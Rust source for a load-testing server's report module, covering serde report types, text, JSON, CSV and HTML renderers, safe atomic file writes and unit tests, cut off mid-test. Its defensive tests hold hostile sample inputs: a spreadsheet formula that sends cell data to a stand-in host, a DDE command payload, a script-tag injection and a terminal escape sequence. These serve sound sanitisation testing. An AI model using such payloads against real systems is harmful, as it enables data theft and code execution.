//! The report: what the server knows about every client, as serde types with the seed's text
//! rendering (byte for byte for every line the seed had) and JSON, CSV and HTML renderings.

use std::fmt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::out_file::OutFile;
use crate::series::{ClientSeries, TotalSample};
use crate::units::BYTES_PER_MB;

/// A client's test status.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Status {
    /// Connected, has not sent `start` (the default).
    #[serde(rename = "NOT STARTED")]
    #[default]
    NotStarted,
    /// Sent `start`, not yet `done`.
    #[serde(rename = "RUNNING")]
    Running,
    /// Sent `done`.
    #[serde(rename = "PASS")]
    Pass,
    /// The connection closed (or the server stopped) before `done`.
    #[serde(rename = "ABORTED")]
    Aborted,
    /// No heartbeat within the heartbeat timeout; the server closed it.
    #[serde(rename = "TIMED OUT")]
    TimedOut,
    /// The client reported an error.
    #[serde(rename = "FAILED")]
    Failed,
}

impl Status {
    /// The status as the report prints it (`NOT STARTED`, `PASS`, …).
    pub fn as_str(self) -> &'static str {
        match self {
            Status::NotStarted => "NOT STARTED",
            Status::Running => "RUNNING",
            Status::Pass => "PASS",
            Status::Aborted => "ABORTED",
            Status::TimedOut => "TIMED OUT",
            Status::Failed => "FAILED",
        }
    }

    /// Whether the client's run is over (PASS, ABORTED, TIMED OUT, FAILED).
    pub fn is_final(self) -> bool {
        matches!(
            self,
            Status::Pass | Status::Aborted | Status::TimedOut | Status::Failed
        )
    }
}

impl fmt::Display for Status {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One client, as the report (or a live snapshot) shows it. (`Default`: an empty row, NOT
/// STARTED; the server's client record starts from it.)
#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
pub struct ClientReport {
    /// The id the server assigned.
    pub id: u32,
    /// Test status.
    pub status: Status,
    /// Seconds from `start` to the end (or to now while running); 0 if it never started.
    pub time_ran_s: f64,
    /// Average of the `send_stats` %CPU values (100 = one core). A loadmon client measures the
    /// CPU of its own threads, so clients sharing a process each report their own share.
    pub cpu_avg_pct: f64,
    /// Average of the `send_stats` %MEM values: the RSS of the client's whole process (shared
    /// by up to [`ClientReport::process_clients`] clients) over total RAM.
    pub mem_avg_pct: f64,
    /// `file_roll` messages received.
    pub files_written: u64,
    /// File size from `file_stats`, MiB.
    pub file_size_mb: u64,
    /// Chunk size from `file_stats`, MiB.
    pub chunk_size_mb: u64,
    /// `hb` messages received.
    pub heartbeats: u64,
    /// Valid `send_stats` messages received.
    pub stats_reports: u64,
    /// Bytes written: the client's own count (`write_stats`), at least files written × file
    /// size (all a seed client tells).
    pub bytes_written: u64,
    /// `bytes_written` in MiB divided by `time_ran_s` (0 when it did not run).
    pub throughput_mb_s: f64,
    /// Why it was ABORTED, FAILED or TIMED OUT; `None` otherwise.
    pub reason: Option<String>,
    /// The peer's address.
    pub peer: Option<String>,
    /// The protocol version the client announced; `None` for a seed client.
    pub protocol_version: Option<String>,
    /// When it sent `start` (RFC 3339, local time).
    pub start_time: Option<String>,
    /// When its run ended (RFC 3339, local time).
    pub end_time: Option<String>,
    /// Average CPU normalised by cores (100 = every core busy), from `proc_stats`.
    pub cpu_core_avg_pct: Option<f64>,
    /// Average resident memory, bytes, from `proc_stats`.
    pub rss_avg_bytes: Option<u64>,
    /// Peak resident memory, bytes, from `proc_stats`.
    pub rss_peak_bytes: Option<u64>,
    /// Median chunk write latency the client measured, milliseconds.
    pub chunk_p50_ms: Option<f64>,
    /// 99th percentile chunk write latency the client measured, milliseconds.
    pub chunk_p99_ms: Option<f64>,
    /// Seconds since the last heartbeat (live snapshots of running clients only).
    pub last_heartbeat_age_s: Option<f64>,
    /// The latest `send_stats` %CPU (100 = one core).
    #[serde(default)]
    pub cpu_last_pct: Option<f64>,
    /// The latest `send_stats` %MEM.
    #[serde(default)]
    pub mem_last_pct: Option<f64>,
    /// The latest resident memory from `proc_stats`, bytes.
    #[serde(default)]
    pub rss_last_bytes: Option<u64>,
    /// The most loadmon clients that shared the client's process at once during its run
    /// (itself included; the highest `proc_stats` said, and a loadmon client counts every
    /// client that ran beside it, between its samples too): its memory figures
    /// (`mem_avg_pct`, `rss_*`) are that whole process's. 1 for a client alone in its process
    /// the whole run; `None` for a client that did not say (a seed client).
    #[serde(default)]
    pub process_clients: Option<u32>,
}

/// All clients together.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Total {
    /// Clients that got an id.
    pub clients: usize,
    /// Clients with status PASS.
    pub passed: usize,
    /// Files written by all clients.
    pub files_written: u64,
    /// Bytes written by all clients.
    pub bytes_written: u64,
    /// All bytes in MiB over the span from the first `start` to the last end.
    pub throughput_mb_s: f64,
    /// Time of the first `done` (RFC 3339), if any.
    pub first_done: Option<String>,
    /// Time of the last `done` (RFC 3339), if any.
    pub last_done: Option<String>,
    /// Fleet mode: the clients the server waited for (`--expect-clients`); `None` otherwise.
    #[serde(default)]
    pub expected_clients: Option<usize>,
    /// Fleet mode: the clients started together (fewer than expected when the start timeout
    /// started whoever was ready); `None` outside fleet mode and before the start.
    #[serde(default)]
    pub started_clients: Option<usize>,
    /// The common start (RFC 3339): when the fleet started, or outside fleet mode the first
    /// client's `start`. `total.series` counts from here.
    #[serde(default)]
    pub common_start: Option<String>,
    /// All clients together over time: bytes and MiB/s summed over clients per time bucket
    /// from the common start (at most 96 buckets; see [`crate::series`]).
    #[serde(default)]
    pub series: Vec<TotalSample>,
}

impl Total {
    /// The totals of `clients` whose runs span `span_s` seconds (first `start` to last end).
    /// Sums saturate: a peer reporting `u64::MAX` bytes cannot make the total wrap.
    pub fn of(clients: &[ClientReport], span_s: f64) -> Total {
        let bytes_written = clients
            .iter()
            .fold(0u64, |t, c| t.saturating_add(c.bytes_written));
        let dones = clients
            .iter()
            .filter(|c| c.status == Status::Pass)
            .filter_map(|c| {
                let t = c.end_time.as_deref()?;
                Some((chrono::DateTime::parse_from_rfc3339(t).ok()?, t))
            });
        let (mut first, mut last) = (None, None::<(chrono::DateTime<chrono::FixedOffset>, &str)>);
        for d in dones {
            if first
                .as_ref()
                .is_none_or(|f: &(chrono::DateTime<chrono::FixedOffset>, &str)| d.0 < f.0)
            {
                first = Some(d);
            }
            if last.as_ref().is_none_or(|l| d.0 > l.0) {
                last = Some(d);
            }
        }
        Total {
            clients: clients.len(),
            passed: clients.iter().filter(|c| c.status == Status::Pass).count(),
            files_written: clients
                .iter()
                .fold(0u64, |t, c| t.saturating_add(c.files_written)),
            bytes_written,
            throughput_mb_s: if span_s > 0.0 {
                bytes_written as f64 / BYTES_PER_MB / span_s
            } else {
                0.0
            },
            first_done: first.map(|f| f.1.to_string()),
            last_done: last.map(|l| l.1.to_string()),
            expected_clients: None,
            started_clients: None,
            common_start: None,
            series: Vec::new(),
        }
    }

    /// Fleet mode's line under the text report (`None` outside fleet mode):
    /// `Fleet: 3 of 3 expected client(s) started together at 2026-11-25_10:00:02; 3 PASS,
    /// 12 file(s), 600.0 MB, 41.20 MB/s overall, peak 45.10 MB/s`.
    pub fn fleet_line(&self) -> Option<String> {
        let expected = self.expected_clients?;
        let started = match (self.started_clients, &self.common_start) {
            (Some(n), Some(at)) if n > 0 => {
                let how = if n < expected { " (start timeout)" } else { "" };
                format!(
                    "{n} of {expected} expected client(s) started together at {}{how}",
                    seed_time(at)
                )
            }
            (Some(_), _) => {
                format!("none of {expected} expected client(s) was ready by the start timeout")
            }
            (None, _) => format!("{expected} client(s) expected, the fleet never started"),
        };
        let peak = self
            .series
            .iter()
            .map(|p| p.throughput_mb_s)
            .fold(0.0, f64::max);
        Some(format!(
            "Fleet: {started}; {} PASS, {} file(s), {:.1} MB, {:.2} MB/s overall, peak {:.2} MB/s",
            self.passed,
            self.files_written,
            self.bytes_written as f64 / BYTES_PER_MB,
            self.throughput_mb_s,
            peak
        ))
    }
}

/// The CSV header: [`ClientReport`]'s fields in order.
#[cfg(feature = "reports")]
const CSV_HEADER: [&str; 27] = [
    "id",
    "status",
    "time_ran_s",
    "cpu_avg_pct",
    "mem_avg_pct",
    "files_written",
    "file_size_mb",
    "chunk_size_mb",
    "heartbeats",
    "stats_reports",
    "bytes_written",
    "throughput_mb_s",
    "reason",
    "peer",
    "protocol_version",
    "start_time",
    "end_time",
    "cpu_core_avg_pct",
    "rss_avg_bytes",
    "rss_peak_bytes",
    "chunk_p50_ms",
    "chunk_p99_ms",
    "last_heartbeat_age_s",
    "cpu_last_pct",
    "mem_last_pct",
    "rss_last_bytes",
    "process_clients",
];

/// The server's report.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Report {
    /// When the server started (RFC 3339, local time).
    pub start_time: String,
    /// When the server stopped (RFC 3339, local time); for a snapshot, now.
    pub end_time: String,
    /// Every client that got an id, in id order.
    pub clients: Vec<ClientReport>,
    /// All clients together.
    pub total: Total,
    /// Each client's throughput, CPU and memory over time (bounded; see
    /// [`series`](crate::series)), for the clients that sent stats.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub series: Vec<ClientSeries>,
    /// Whether the run was stopped (Ctrl-C, SIGTERM, a stop call) rather than ending by itself
    /// when its clients were gone.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub stopped: bool,
}

impl Report {
    /// The JSON report (pretty-printed).
    pub fn to_json(&self) -> String {
        // Serialising these plain types cannot fail (no maps with non-string keys, no
        // non-finite floats: every float is computed from checked input).
        serde_json::to_string_pretty(self).unwrap_or_else(|e| format!("{{\"error\":\"{e}\"}}"))
    }

    /// Parses a JSON report.
    ///
    /// # Errors
    /// [`Error::Config`] if the text is not a report.
    pub fn from_json(text: &str) -> Result<Report> {
        serde_json::from_str(text).map_err(|e| Error::Config(format!("not a loadmon report: {e}")))
    }

    /// The seed's text report, byte for byte for every line the seed printed (sizes are plain
    /// MB integers without a unit, as the seed printed them). New: a `Reason:` line after a
    /// client that has a reason (ABORTED, FAILED, TIMED OUT), and the statuses `TIMED OUT` and
    /// `FAILED`, which the seed did not have. Which clients shared a process is in the JSON,
    /// CSV and HTML reports, not here. In fleet mode one line follows the seed's block
    /// ([`Total::fleet_line`]).
    ///
    /// # Examples
    /// ```
    /// let report = loadmon::report::Report::from_json(
    ///     r#"{"start_time":"2026-11-25T10:00:00+00:00","end_time":"2026-11-25T10:00:20+00:00",
    ///         "clients":[],"total":{"clients":0,"passed":0,"files_written":0,"bytes_written":0,
    ///         "throughput_mb_s":0.0,"first_done":null,"last_done":null}}"#).unwrap();
    /// assert!(report.to_text().contains("Total of 0 client(s) ran. Data for each client:"));
    /// ```
    pub fn to_text(&self) -> String {
        let mut s = String::new();
        let line = "=========================================================";
        let sep = "---------------------------------------------------------";
        s.push('\n');
        s.push_str(line);
        s.push('\n');
        s.push_str(self.headline());
        s.push('\n');
        s.push_str(&format!(
            "    Start time: {}\n",
            seed_time(&self.start_time)
        ));
        s.push_str(&format!("    End time:   {}\n", seed_time(&self.end_time)));
        s.push('\n');
        s.push_str(&format!(
            "Total of {} client(s) ran. Data for each client:\n",
            self.clients.len()
        ));
        for c in &self.clients {
            s.push_str(sep);
            s.push('\n');
            s.push_str(&format!("  Client {}\n", c.id));
            s.push_str(&format!("    Test status:   {}\n", c.status));
            s.push_str(&format!("    Time ran:      {:.2} sec\n", c.time_ran_s));
            s.push_str(&format!("    Avg CPU usage: {:.2}%\n", c.cpu_avg_pct));
            s.push_str(&format!("    Avg MEM usage: {:.2}%\n", c.mem_avg_pct));
            s.push_str(&format!("    Files written: {}\n", c.files_written));
            s.push_str(&format!("    File size:     {}\n", c.file_size_mb));
            s.push_str(&format!("    Chunk size:    {}\n", c.chunk_size_mb));
            if let Some(r) = &c.reason {
                // Peer text: escaped for the terminal (the JSON keeps it exact).
                let r = crate::text::escape_control(r);
                s.push_str(&format!("    Reason:        {r}\n"));
            }
        }
        s.push_str(line);
        s.push('\n');
        if let Some(fleet) = self.total.fleet_line() {
            s.push_str(&fleet);
            s.push('\n');
        }
        s
    }

    /// The text report's first line: the seed's "All test clients completed!" when the run
    /// ended by itself (or every client had finished when it was stopped), and what happened
    /// otherwise.
    fn headline(&self) -> &'static str {
        let interrupted = self
            .clients
            .iter()
            .any(|c| c.reason.as_deref() == Some(STOPPED_REASON));
        match (self.stopped, self.clients.is_empty(), interrupted) {
            (true, true, _) => "Server stopped before any test client connected!",
            (true, false, true) => "Server stopped before every test client completed!",
            _ => "All test clients completed!",
        }
    }

    /// Writes the JSON report to `path` atomically (temporary file in the same directory,
    /// fsync, rename), so a reader never sees half a report.
    ///
    /// # Errors
    /// [`Error::File`] with the path.
    pub fn write_json(&self, path: &Path) -> Result<()> {
        write_atomic(path, self.to_json().as_bytes())
    }

    #[cfg(feature = "reports")]
    /// The clients as CSV: a header row with the JSON report's field names, then one row per
    /// client (an absent value is an empty cell). A text cell that a spreadsheet would take
    /// for a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return: a peer's
    /// `error:=HYPERLINK(…)`) gets a leading `'`, as OWASP recommends; numbers are left as
    /// they are.
    ///
    /// # Examples
    /// ```
    /// let report = loadmon::report::Report::from_json(
    ///     r#"{"start_time":"2026-11-25T10:00:00+00:00","end_time":"2026-11-25T10:00:20+00:00",
    ///         "clients":[],"total":{"clients":0,"passed":0,"files_written":0,"bytes_written":0,
    ///         "throughput_mb_s":0.0,"first_done":null,"last_done":null}}"#).unwrap();
    /// assert!(report.to_csv().starts_with("id,status,time_ran_s,"));
    /// ```
    pub fn to_csv(&self) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        // The header comes from the first serialised row; with no client, write it by hand.
        let mut result = if self.clients.is_empty() {
            w.write_record(CSV_HEADER)
        } else {
            self.clients
                .iter()
                .try_for_each(|c| w.serialize(csv_safe(c)))
        };
        let bytes = match w.into_inner() {
            Ok(b) => b,
            Err(e) => {
                result = Err(csv::Error::from(e.into_error()));
                Vec::new()
            }
        };
        match result {
            // Plain numbers and strings: writing to memory cannot fail.
            Ok(()) => String::from_utf8_lossy(&bytes).into_owned(),
            Err(e) => format!("error\n{e}\n"),
        }
    }

    #[cfg(feature = "reports")]
    /// A self-contained HTML page (nothing loaded from elsewhere). Up to 50 clients: the
    /// report table and inline SVG charts of each client's throughput and CPU over time (from
    /// [`Report::series`]), no script. Above: a summary and fleet charts drawn statically, and
    /// the per-client table a page at a time with a client's charts drawn when it is opened
    /// (`#client-<id>`) by an inline script, so that the page stays small (under 4 MB at
    /// 10,000 clients).
    pub fn to_html(&self) -> String {
        crate::html_report::render(self)
    }

    #[cfg(feature = "reports")]
    /// Writes [`Report::to_csv`] to `path` atomically.
    ///
    /// # Errors
    /// [`Error::File`] with the path.
    pub fn write_csv(&self, path: &Path) -> Result<()> {
        write_atomic(path, self.to_csv().as_bytes())
    }

    #[cfg(feature = "reports")]
    /// Writes [`Report::to_html`] to `path` atomically.
    ///
    /// # Errors
    /// [`Error::File`] with the path.
    pub fn write_html(&self, path: &Path) -> Result<()> {
        write_atomic(path, self.to_html().as_bytes())
    }
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_text())
    }
}

/// `c` with every text cell made safe for a spreadsheet (see [`Report::to_csv`]).
#[cfg(feature = "reports")]
fn csv_safe(c: &ClientReport) -> std::borrow::Cow<'_, ClientReport> {
    let risky = |s: &Option<String>| s.as_deref().is_some_and(is_formula);
    let texts = [
        &c.reason,
        &c.peer,
        &c.protocol_version,
        &c.start_time,
        &c.end_time,
    ];
    if !texts.into_iter().any(risky) {
        return std::borrow::Cow::Borrowed(c);
    }
    let mut c = c.clone();
    for s in [
        &mut c.reason,
        &mut c.peer,
        &mut c.protocol_version,
        &mut c.start_time,
        &mut c.end_time,
    ] {
        if let Some(t) = s.as_mut().filter(|t| is_formula(t)) {
            t.insert(0, '\'');
        }
    }
    std::borrow::Cow::Owned(c)
}

/// Whether a spreadsheet would read a text cell as a formula (OWASP's CSV injection list).
#[cfg(feature = "reports")]
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The seed printed times as `%Y-%m-%d_%H:%M:%S`; the JSON keeps RFC 3339.
fn seed_time(rfc3339: &str) -> String {
    chrono::DateTime::parse_from_rfc3339(rfc3339)
        .map(|t| t.format("%Y-%m-%d_%H:%M:%S").to_string())
        .unwrap_or_else(|_| rfc3339.to_string())
}

/// The reason of a client that was running when the server was stopped.
pub const STOPPED_REASON: &str = "server stopped";

/// The report files of a run (each optional): resolved when the run starts (a relative path
/// against the working directory of that moment; see [`ReportFiles::open`]), written after it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ReportFiles {
    /// The JSON report.
    pub json: Option<PathBuf>,
    /// The CSV report (one row per client).
    pub csv: Option<PathBuf>,
    /// The HTML report (table and charts).
    pub html: Option<PathBuf>,
}

impl ReportFiles {
    fn each(&self) -> impl Iterator<Item = (&'static str, &Path)> {
        [
            ("JSON", &self.json),
            ("CSV", &self.csv),
            ("HTML", &self.html),
        ]
        .into_iter()
        .filter_map(|(kind, p)| p.as_deref().map(|p| (kind, p)))
    }

    /// Checks every path before the run, so that a report is never lost to a path found
    /// unusable afterwards: see [`check_report_path`].
    ///
    /// # Errors
    /// [`Error::Config`] naming the report and the path.
    pub fn check(&self) -> Result<()> {
        self.open().map(drop)
    }

    /// Resolves every path now (see [`OutFile::open`]): a server does this when it starts,
    /// so that the files are written where the paths pointed then, and never through a link
    /// planted during the run.
    ///
    /// # Errors
    /// [`Error::Config`] naming the report and the path.
    pub fn open(&self) -> Result<OpenReportFiles> {
        let files = self
            .each()
            .map(|(kind, path)| Ok((kind, path.to_path_buf(), ReportFiles::one(kind, path)?)))
            .collect::<Result<_>>()?;
        Ok(OpenReportFiles { files })
    }

    /// Resolves every path now and writes every report file (each is attempted even if
    /// another failed); one `(kind, path, result)` per file. See [`ReportFiles::open`].
    pub fn write(&self, report: &Report) -> Vec<(&'static str, PathBuf, Result<()>)> {
        self.each()
            .map(|(kind, path)| {
                let r = ReportFiles::one(kind, path)
                    .and_then(|file| file.write(render(kind, report)?.as_bytes()));
                (kind, path.to_path_buf(), r)
            })
            .collect()
    }

    fn one(kind: &'static str, path: &Path) -> Result<OutFile> {
        if kind != "JSON" && !cfg!(feature = "reports") {
            return Err(Error::Config(format!(
                "{kind} report {}: loadmon was built without the `reports` feature",
                path.display()
            )));
        }
        OutFile::resolve(path)
            .map_err(|why| Error::Config(format!("{kind} report {}: {why}", path.display())))
    }
}

/// The report files of a run, resolved at its start ([`ReportFiles::open`]).
#[derive(Debug)]
pub struct OpenReportFiles {
    files: Vec<(&'static str, PathBuf, OutFile)>,
}

impl OpenReportFiles {
    /// Writes every report file (each is attempted even if another failed); one
    /// `(kind, path, result)` per file.
    pub fn write(&self, report: &Report) -> Vec<(&'static str, PathBuf, Result<()>)> {
        self.files
            .iter()
            .map(|(kind, path, file)| {
                let r = render(kind, report).and_then(|text| file.write(text.as_bytes()));
                (*kind, path.clone(), r)
            })
            .collect()
    }
}

/// The report file of `kind` (JSON, CSV, HTML).
fn render(kind: &str, report: &Report) -> Result<String> {
    match kind {
        "JSON" => Ok(report.to_json()),
        #[cfg(feature = "reports")]
        "CSV" => Ok(report.to_csv()),
        #[cfg(feature = "reports")]
        _ => Ok(report.to_html()),
        #[cfg(not(feature = "reports"))]
        _ => Err(Error::Config(format!(
            "{kind} report: loadmon was built without the `reports` feature"
        ))),
    }
}

/// Checks that a report can be written to `path`: it names a file (not a directory), it is
/// absent or a regular file (a symlink to one is written through), and its directory exists
/// and is writable, or can be created under a writable one. Nothing is left behind.
///
/// # Errors
/// Why not, as text.
pub fn check_report_path(path: &Path) -> std::result::Result<(), String> {
    OutFile::resolve(path).map(drop)
}

/// Writes `bytes` to `path` so that the file is either the old one or the whole new one
/// (temporary file in the same directory, fsync, rename). Only a regular file is replaced: a
/// symlink is written through (the link stays), and a directory, device, FIFO or socket is
/// an error, never renamed over. The path is resolved now: a file to be written at the end of
/// a run is better [opened](OutFile::open) at its start.
///
/// # Errors
/// [`Error::Config`] if the path cannot be written (see [`check_report_path`]);
/// [`Error::File`] naming the path if writing failed.
pub fn write_atomic(path: &Path, bytes: &[u8]) -> Result<()> {
    OutFile::open(path)?.write(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::FileTypeExt;

    fn client(id: u32, status: Status) -> ClientReport {
        ClientReport {
            id,
            status,
            time_ran_s: 12.345,
            cpu_avg_pct: 3.0,
            mem_avg_pct: 0.015,
            files_written: 4,
            file_size_mb: 50,
            chunk_size_mb: 10,
            heartbeats: 2,
            stats_reports: 1,
            bytes_written: 200 << 20,
            throughput_mb_s: 16.2,
            reason: None,
            peer: None,
            protocol_version: None,
            start_time: None,
            end_time: None,
            cpu_core_avg_pct: None,
            rss_avg_bytes: None,
            rss_peak_bytes: None,
            chunk_p50_ms: None,
            chunk_p99_ms: None,
            last_heartbeat_age_s: None,
            cpu_last_pct: None,
            mem_last_pct: None,
            rss_last_bytes: None,
            process_clients: Some(1),
        }
    }

    fn report() -> Report {
        Report {
            start_time: "2026-11-25T10:00:00+01:00".into(),
            end_time: "2026-11-25T10:00:20+01:00".into(),
            clients: vec![client(100, Status::Pass), {
                let mut c = client(101, Status::TimedOut);
                c.reason = Some("no heartbeat for 15.0 s".into());
                c
            }],
            total: Total {
                clients: 2,
                passed: 1,
                files_written: 8,
                bytes_written: 400 << 20,
                throughput_mb_s: 20.0,
                first_done: None,
                last_done: None,
                expected_clients: None,
                started_clients: None,
                common_start: None,
                series: vec![],
            },
            series: vec![],
            stopped: false,
        }
    }

    #[test]
    fn csv_has_the_json_field_names_and_one_row_per_client() {
        let mut r = report();
        r.clients[1].reason = Some("no heartbeat, \"really\"".into());
        let text = r.to_csv();
        let mut rd = csv::Reader::from_reader(text.as_bytes());
        let header: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(header, CSV_HEADER);
        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[0][0], "100");
        assert_eq!(&rows[1][1], "TIMED OUT");
        assert_eq!(&rows[1][12], "no heartbeat, \"really\"");
        assert_eq!(&rows[0][12], "");
        // No client: the header alone.
        r.clients.clear();
        assert_eq!(r.to_csv().lines().count(), 1);
        assert!(r.to_csv().starts_with("id,status,"));
    }

    #[test]
    fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
        let mut r = report();
        let formulas = [
            "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,1)",
            "\t=1",
            "\r=1",
        ];
        r.clients = formulas
            .iter()
            .enumerate()
            .map(|(i, f)| {
                let mut c = client(100 + i as u32, Status::Failed);
                c.reason = Some((*f).to_string());
                c.protocol_version = Some("=1+1".into());
                c.cpu_avg_pct = -1.5;
                c
            })
            .collect();
        r.clients.push(client(200, Status::Pass));
        r.clients[6].reason = Some("no heartbeat for 15.0 s".into());
        let text = r.to_csv();
        let mut rd = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
        for (row, f) in rows.iter().zip(formulas) {
            assert_eq!(&row[12], format!("'{f}"), "{text}");
            assert_eq!(&row[14], "'=1+1");
            assert_eq!(&row[3], "-1.5", "a number stays a number");
        }
        assert_eq!(&rows[6][12], "no heartbeat for 15.0 s");
        assert_eq!(&rows[6][3], "3.0");
        // The JSON keeps the peer's text exact.
        assert_eq!(
            Report::from_json(&r.to_json()).unwrap().clients[0]
                .reason
                .as_deref(),
            Some(formulas[0])
        );
    }

    #[test]
    fn html_is_self_contained_with_a_row_per_client_and_charts() {
        use crate::series::{ClientSeries, Sample};
        let mut r = report();
        r.clients[1].reason = Some("<script>alert(1)</script>".into());
        let sample = |t_s: f64, cpu_pct: f64| Sample {
            t_s,
            bytes_written: 0,
            throughput_mb_s: 5.0,
            cpu_pct,
            mem_pct: 0.1,
            rss_bytes: None,
        };
        r.series = vec![ClientSeries {
            id: 100,
            samples: vec![sample(1.0, 10.0), sample(2.0, 20.0)],
        }];
        let html = r.to_html();
        assert!(html.starts_with("<!DOCTYPE html>"));
        assert_eq!(html.matches("<tr><td>").count(), 2);
        assert!(!html.contains("<script>"), "reason must be escaped");
        assert_eq!(html.matches("<svg").count(), 2);
        assert_eq!(html.matches(r#"data-points="2""#).count(), 2);
        assert!(!html.contains("http://") || !html.contains("src=\"http"));
        assert!(!html.contains("<link") && !html.contains("<script"));
        r.series.clear();
        assert!(r.to_html().contains("no charts"));
        // No stats sample (a seed client, say): throughput from its bytes over its run.
        r.clients[0].start_time = Some("2026-11-25T10:00:02+01:00".into());
        let html = r.to_html();
        assert_eq!(html.matches("<svg").count(), 1, "{html}");
        assert!(html.contains(r#"data-client="client 100" data-points="2""#));
        assert!(html.contains("no CPU chart"));
    }

    #[test]
    fn text_report_has_the_seed_wording() {
        let text = report().to_text();
        let expected_head = "\n=========================================================\n\
            All test clients completed!\n    Start time: 2026-11-25_10:00:00\n    \
            End time:   2026-11-25_10:00:20\n\nTotal of 2 client(s) ran. Data for each client:\n\
            ---------------------------------------------------------\n  Client 100\n    \
            Test status:   PASS\n    Time ran:      12.35 sec\n    Avg CPU usage: 3.00%\n    \
            Avg MEM usage: 0.01%\n    Files written: 4\n";
        assert!(text.starts_with(expected_head), "{text}");
        assert!(
            text.contains("    File size:     50\n    Chunk size:    10\n"),
            "{text}"
        );
        assert!(!text.contains(" MB\n"), "{text}");
        assert!(text.contains("    Test status:   TIMED OUT\n"));
        assert!(text.contains("    Reason:        no heartbeat for 15.0 s\n"));
    }

    #[test]
    fn json_has_the_documented_keys_and_round_trips() {
        let r = report();
        let v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
        // Every documented field (the CSV header lists them all, in order).
        for key in CSV_HEADER {
            assert!(v["clients"][0].get(key).is_some(), "missing {key}");
        }
        assert_eq!(v["clients"][1]["status"], "TIMED OUT");
        assert!(v["clients"][0]["reason"].is_null());
        assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
    }

    #[test]
    fn atomic_write_replaces_whole_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("sub").join("report.json");
        report().write_json(&path).unwrap();
        let back = Report::from_json(&std::fs::read_to_string(&path).unwrap()).unwrap();
        assert_eq!(back, report());
        let leftovers: Vec<_> = std::fs::read_dir(path.parent().unwrap())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(leftovers.len(), 1, "{leftovers:?}");
    }

    #[test]
    fn reports_replace_only_regular_files_and_write_through_symlinks() {
        let dir = tempfile::tempdir().unwrap();
        // A device is never renamed over, and is refused before the run.
        let dev_null = Path::new("/dev/null");
        assert!(write_atomic(dev_null, b"{}").is_err());
        assert!(std::fs::metadata(dev_null)
            .unwrap()
            .file_type()
            .is_char_device());
        assert!(check_report_path(dev_null)
            .unwrap_err()
            .contains("not a regular file"));
        // A directory neither.
        assert!(check_report_path(dir.path()).is_err());
        // A symlink to a regular file: the link stays, its target gets the report.
        let real = dir.path().join("real.json");
        std::fs::write(&real, "old").unwrap();
        let link = dir.path().join("link.json");
        std::os::unix::fs::symlink(&real, &link).unwrap();
        assert_eq!(check_report_path(&link), Ok(()));
        write_atomic(&link, b"new").unwrap();
        assert!(std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(std::fs::read_to_string(&real).unwrap(), "new");
        // A dangling symlink is refused.
        let dangling = dir.path().join("dangling.json");
        std::os::unix::fs::symlink(dir.path().join("nowhere/x"), &dangling).unwrap();
        assert!(check_report_path(&dangling).is_err());
        // A parent that is a file is refused; a parent to be created is fine, and the check
        // leaves nothing behind.
        let blocker = dir.path().join("file");
        std::fs::write(&blocker, b"x").unwrap();
        assert!(check_report_path(&blocker.join("r.json")).is_err());
        assert_eq!(
            check_report_path(&dir.path().join("new/sub/r.json")),
            Ok(())
        );
        assert!(!dir.path().join("new").exists());
        let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
        assert_eq!(left.len(), 4, "no probe file left: {left:?}");
    }

    #[test]
    fn totals_saturate_instead_of_wrapping() {
        let mut a = client(100, Status::Pass);
        a.bytes_written = u64::MAX;
        a.files_written = u64::MAX;
        let b = a.clone();
        let t = Total::of(&[a, b], 1.0);
        assert_eq!(t.bytes_written, u64::MAX);
        assert_eq!(t.files_written, u64::MAX);
        assert_eq!((t.clients, t.passed), (2, 2));
    }

    #[test]
    fn the_headline_says_when_a_run_was_stopped() {
        let mut r = report();
        assert!(r.to_text().contains("\nAll test clients completed!\n"));
        r.stopped = true;
        r.clients[1].reason = Some(STOPPED_REASON.into());
        assert!(r
            .to_text()
            .contains("\nServer stopped before every test client completed!\n"));
        r.clients.clear();
        assert!(r
            .to_text()
            .contains("\nServer stopped before any test client connected!\n"));
        let mut c = client(7, Status::Failed);
        c.reason = Some("\x1b]0;pwned\x07".into());
        r.clients.push(c);
        assert!(r.to_text().contains("Reason:        \\u{1b}]0;pwned\\u{7}"));
    }

    #[test]
    fn fleet_mode_adds_one_line_after_the_seed_block() {
        let mut r = report();
        let seed = r.to_text();
        assert!(seed.ends_with("=========================================================\n"));
        r.total.expected_clients = Some(3);
        r.total.started_clients = Some(2);
        r.total.common_start = Some("2026-11-25T10:00:02+01:00".into());
        r.total.series = vec![TotalSample {
            t_s: 1.0,
            bytes_written: 1,
            throughput_mb_s: 25.5,
        }];
        let text = r.to_text();
